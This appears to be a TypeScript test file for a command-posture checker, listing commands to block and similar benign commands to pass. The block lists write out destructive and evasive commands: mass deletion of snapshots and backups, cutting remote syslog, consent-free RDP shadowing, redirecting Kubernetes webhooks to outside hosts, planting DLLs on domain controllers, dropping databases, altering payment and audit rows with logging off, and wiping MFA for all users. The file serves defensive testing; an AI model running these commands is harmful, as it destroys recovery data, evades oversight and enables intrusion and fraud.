import { type PostureCase, runCases } from "./_posture_testing.ts";

const CASES: PostureCase[] = [
  {
    id: "backup.recovery_points_destroyed",
    block: [
      "zfs list -H -o name -t snapshot tank | xargs -n1 zfs destroy; rm -rf /tank/backups/restic-repo",
      "Get-VMSnapshot -VMName * | Remove-VMSnapshot; Remove-Item -Recurse -Force D:\\Backups\\Veeam\\*",
      "for v in $(vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}'); do vim-cmd vmsvc/snapshot.removeall $v; done; apt-get purge -y borgbackup",
      "aws ec2 describe-snapshots --owner-ids self --query 'Snapshots[].SnapshotId' --output text | xargs -n1 aws ec2 delete-snapshot --snapshot-id; rm -rf /mnt/nas/backup/*",
    ],
    pass: [
      // snapshot rotation alone
      "zfs list -H -o name -t snapshot tank/home | head -n -30 | xargs -n1 zfs destroy",
      // a backup directory tidied alone
      "rm -rf /srv/backup/tmp-restore-test",
      // listing both
      "btrfs subvolume list -s /volume1; ls -la /volume1/backup",
    ],
  },
  {
    id: "esxi.remote_syslog_cut",
    block: [
      "esxcli system syslog config set --loghost='' && esxcli system syslog reload",
      'esxcli system syslog config set --loghost="" ; esxcli system syslog reload',
      "esxcli system syslog config set --loghost= --default-rotate=2",
    ],
    pass: [
      "esxcli system syslog config set --loghost='udp://10.0.0.50:514' && esxcli system syslog reload",
      "esxcli system syslog config get",
      "esxcli system syslog config set --logdir=/vmfs/volumes/ds1/logs",
    ],
  },
  {
    id: "rdp.shadow_without_consent",
    block: [
      "$p = 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services'; New-ItemProperty -Path $p -Name Shadow -PropertyType DWord -Value 2 -Force",
      "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services' -Name Shadow -Value 4",
      "mstsc.exe /v:rds-hr-02 /shadow:7 /control /noConsentPrompt  # RDP helpdesk",
    ],
    pass: [
      // shadowing WITH the user's consent
      'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services" /v Shadow /t REG_DWORD /d 1 /f',
      "mstsc /v:rds-hr-02 /shadow:7 /control",
      "Get-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services' -Name Shadow",
    ],
  },
  {
    id: "k8s.webhook_patched_external",
    block: [
      `kubectl patch validatingwebhookconfiguration policy-hook --type=json -p '[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://hooks.partner-ops.net/validate"}}]'`,
      `kubectl patch mutatingwebhookconfigurations vault-agent-injector -p '{"webhooks":[{"name":"vault.hashicorp.com","clientConfig":{"url":"https://203.0.113.9:8443/mutate"}}]}'`,
      `oc patch mutatingwebhookconfiguration linkerd-proxy-injector --type=json -p '[{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://x"},{"op":"add","path":"/webhooks/0/url","value":"https://mesh.example.org"}]'`,
    ],
    pass: [
      `kubectl patch mutatingwebhookconfiguration istio-sidecar-injector --type=json -p '[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Fail"}]'`,
      "kubectl get mutatingwebhookconfiguration istio-sidecar-injector -o yaml",
      `kubectl patch validatingwebhookconfiguration gk -p '{"webhooks":[{"name":"v","clientConfig":{"url":"https://gatekeeper-webhook-service.gatekeeper-system.svc:443/v1/admit"}}]}'`,
    ],
  },
  {
    id: "win.dc_service_plugin_dll",
    block: [
      "dnscmd DC02 /config /serverlevelplugindll \\\\fileserver\\drop\\stats.dll",
      'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\DNS\\Parameters" /v ServerLevelPluginDll /t REG_SZ /d C:\\ProgramData\\dnsx.dll /f',
      "Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Services\\NTDS -Name DirectoryServiceExtPt -Value %SystemRoot%\\ext.dll",
    ],
    pass: [
      'reg query "HKLM\\SYSTEM\\CurrentControlSet\\Services\\DNS\\Parameters" /v ServerLevelPluginDll',
      'reg delete "HKLM\\SYSTEM\\CurrentControlSet\\Services\\DNS\\Parameters" /v ServerLevelPluginDll /f',
      "Audit: ServerLevelPluginDll should be empty on every domain controller.",
    ],
  },
  {
    id: "net.cleartext_login_capture_shared",
    block: [
      "nohup tcpdump -i eth0 -s 0 -w /mnt/team-share/ftp-debug.pcap 'port 21' &",
      "tshark -i ens192 -f 'tcp port 143 or port 110' -w /srv/www/html/pub/mail.pcapng",
      "sudo tcpdump -nn -i any -w //nas01/shared/ldap.pcap port 3268",
    ],
    pass: [
      // the same protocol captured locally for a short look
      "sudo tcpdump -i any -c 200 -w /tmp/ldap.pcap 'tcp port 389'",
      // a capture to a share of an encrypted protocol
      "tcpdump -i eth0 -w /mnt/share/https.pcap 'tcp port 443'",
      "tcpdump -r /mnt/share/old.pcap 'port 389' | head",
    ],
  },
  {
    id: "data.retention_cut_then_dropped",
    block: [
      "ALTER DATABASE analytics SET DATA_RETENTION_TIME_IN_DAYS = 0; DROP DATABASE analytics;",
      "ALTER SCHEMA `acme.billing` SET OPTIONS (max_time_travel_hours = 48);\nDROP SCHEMA `acme.billing` CASCADE;",
      "bq update --max_time_travel_hours=48 acme:crm && bq rm -r -f -d acme:crm",
    ],
    pass: [
      // cost tuning alone
      "ALTER SCHEMA `acme.logs_raw` SET OPTIONS (max_time_travel_hours = 48);",
      "ALTER SCHEMA `acme.tmp` SET OPTIONS (max_time_travel_hours = 168);\nDROP TABLE `acme.tmp.scratch_2023`;",
      "ALTER DATABASE analytics SET DATA_RETENTION_TIME_IN_DAYS = 30;",
    ],
  },
  {
    id: "sql.rows_changed_triggers_off",
    block: [
      "ALTER TABLE payments DISABLE TRIGGER ALL; UPDATE payments SET amount = 0 WHERE id = 991; ALTER TABLE payments ENABLE TRIGGER ALL;",
      "SET sql_log_bin = 0; DELETE FROM audit_log WHERE user_id = 17;",
      "SET session_replication_role TO replica;\nUPDATE accounts SET balance = balance + 50000 WHERE iban = 'X';",
    ],
    pass: [
      // restore scripts load data with the triggers off
      "SET session_replication_role = replica;\nCOPY public.orders FROM '/tmp/orders.csv' CSV;\nSET session_replication_role = DEFAULT;",
      "UPDATE orders SET status = 'shipped' WHERE id = 5;",
      "SELECT * FROM pg_trigger WHERE tgenabled = 'D';",
    ],
  },
  {
    id: "sql.definer_user_table_to_anon",
    block: [
      "create function public.find_member(q text) returns setof jsonb language sql security definer as $$ select to_jsonb(u) from auth.users u where u.email like q $$;\ngrant execute on function public.find_member(text) to anon;",
      "CREATE FUNCTION lookup(p text) RETURNS TABLE(email text, pw text) SECURITY DEFINER AS $$ SELECT email, password_hash FROM app.users WHERE email = p $$ LANGUAGE sql;\nGRANT EXECUTE ON FUNCTION lookup(text) TO PUBLIC;",
      "create or replace function api.who(q text) returns setof customers security definer language sql as $$ select * from customers where phone like q $$; grant execute on function api.who to authenticated, anon;",
    ],
    pass: [
      // definer function granted only to the service role
      "create function private.count_users() returns bigint language sql security definer as $$ select count(*) from auth.users $$;\ngrant execute on function private.count_users() to service_role;",
      // invoker rights
      "create function public.search_posts(q text) returns setof posts language sql security invoker as $$ select * from posts where title ilike q $$; grant execute on function public.search_posts to anon;",
      "revoke execute on function public.find_member(text) from anon;",
    ],
  },
  {
    id: "auth.mfa_wiped_for_all",
    block: [
      "DB::table('users')->update(['mfa_secret' => null, 'mfa_enabled' => false]);",
      "UPDATE users SET totp_secret = NULL, otp_enabled = false;",
      "User.objects.all().update(two_factor_enabled=False)",
      "User.update_all(otp_secret: nil, otp_required_for_login: false)",
    ],
    pass: [
      // one user who lost the phone
      "DB::table('users')->where('id', $userId)->update(['two_factor_secret' => null]);",
      "UPDATE users SET totp_secret = NULL WHERE id = 4121;",
      "UPDATE users SET mfa_enabled = true;",
      "User.where(id: user.id).update_all(otp_secret: nil)",
    ],
  },
];

runCases("r47", CASES);
